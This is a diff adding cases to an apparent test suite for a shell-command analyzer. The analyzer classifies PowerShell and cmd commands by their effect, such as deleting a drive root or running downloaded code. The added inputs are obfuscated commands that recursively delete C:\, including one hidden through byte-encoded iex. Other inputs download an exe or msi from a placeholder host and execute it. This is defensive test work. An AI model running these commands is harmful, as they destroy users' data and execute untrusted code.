@@ -74,6 +74,29 @@ test.each([
   ["iwr http://x.test/a -OutFile $env:TEMP\\a.exe; & $env:TEMP\\a.exe", "network -> executed"],
   ["& \\\\srv\\share\\a.exe", "network -> executed"],
   ["'rm -r C:\\' > x.ps1; .\\x.ps1", "delete* /"],
+  ["Set-Variable p 'C:\\'; ri $p -r", "delete* /"],
+  ["sv -Name p -Value 'C:\\'; ri (gv p -ValueOnly) -r", "delete* /"],
+  ["'C:\\' | sv p; ri $p -r", "delete* /"],
+  ["$a, $b = 'C:\\', 'x'; ri $a -r", "delete* /"],
+  ["$a, $b = 'x', 'C:\\'; ri $b -r", "delete* /"],
+  ["$p ??= 'C:\\'; ri $p -r", "delete* /"],
+  ["ri ($p = 'C:\\') -r", "delete* /"],
+  ["ri ($x ? '.' : 'C:\\') -r", "delete* /"],
+  ["ri $(if ($x) {'.'} else {'C:\\'}) -r", "delete* /"],
+  ["ri (switch ($x) { 1 {'C:\\'} }) -r", "delete* /"],
+  ["@('C:\\','D:\\').ForEach({ ri $_ -r })", "delete* /"],
+  ["(gci C:\\Windows).ForEach('Delete')", "delete* /c:/windows"],
+  ["function f { param([Parameter(ValueFromPipeline)]$p) process { ri $p -r } }; 'C:\\' | f", "delete* /"],
+  ["ri FileSystem::C:\\ -r", "delete* /"],
+  ["ri '\\\\?\\C:\\' -r", "delete* /"],
+  ["ri '\\\\localhost\\C$' -r", "delete* /"],
+  ['ri "C:$([IO.Path]::DirectorySeparatorChar)" -r', "delete* /"],
+  [
+    "$i = New-Object Diagnostics.ProcessStartInfo; $i.FileName = 'cmd'; $i.Arguments = '/c rd /s C:\\'; [Diagnostics.Process]::Start($i)",
+    "delete* /",
+  ],
+  ["iex ([Text.Encoding]::ASCII.GetString([byte[]](0x72,0x69,0x20,0x43,0x3a,0x5c,0x20,0x2d,0x72)))", "delete* /"],
+  ["iwr https://x.test/a -OutFile a.msi; msiexec /i a.msi", "network -> executed"],
   ["New-Item function:f -Value { ri C:\\ -r }; f", "delete* /"],
   ["Set-Alias a ri; Set-Alias b a; b C:\\ -r", "delete* /"],
   ["Set-Item alias:z ri; z C:\\ -r", "delete* /"],
@@ -111,6 +134,7 @@ test("objects with a path take it along the pipe", () => {
 
 test.each([
   ["del /s /q C:\\*", "delete* /"],
+  ["for %%a in (C) do rd /s /q %%a:\\", "delete* /"],
   ["rd;/s,/q=C:\\", "delete* /"],
   ["cmd.exe/c rd /s /q C:\\", "delete* /"],
   ['set "x=rd" & call %%x%% /s /q C:\\', "delete* /"],
@@ -172,6 +196,7 @@ test.each([
   ["powershell", "& $unknown"],
   ["powershell", "iex $text"],
   ["cmd", "%unknown% /x"],
+  ["cmd", "set /p x=<a.txt\n%x%"],
 ] as ["powershell" | "cmd", string][])("%s: what cannot be resolved is a gap: %s", (dialect, command) => {
   expect(of(dialect, command).gaps.map(g => g.why)).toContain("unresolved_program");
 });
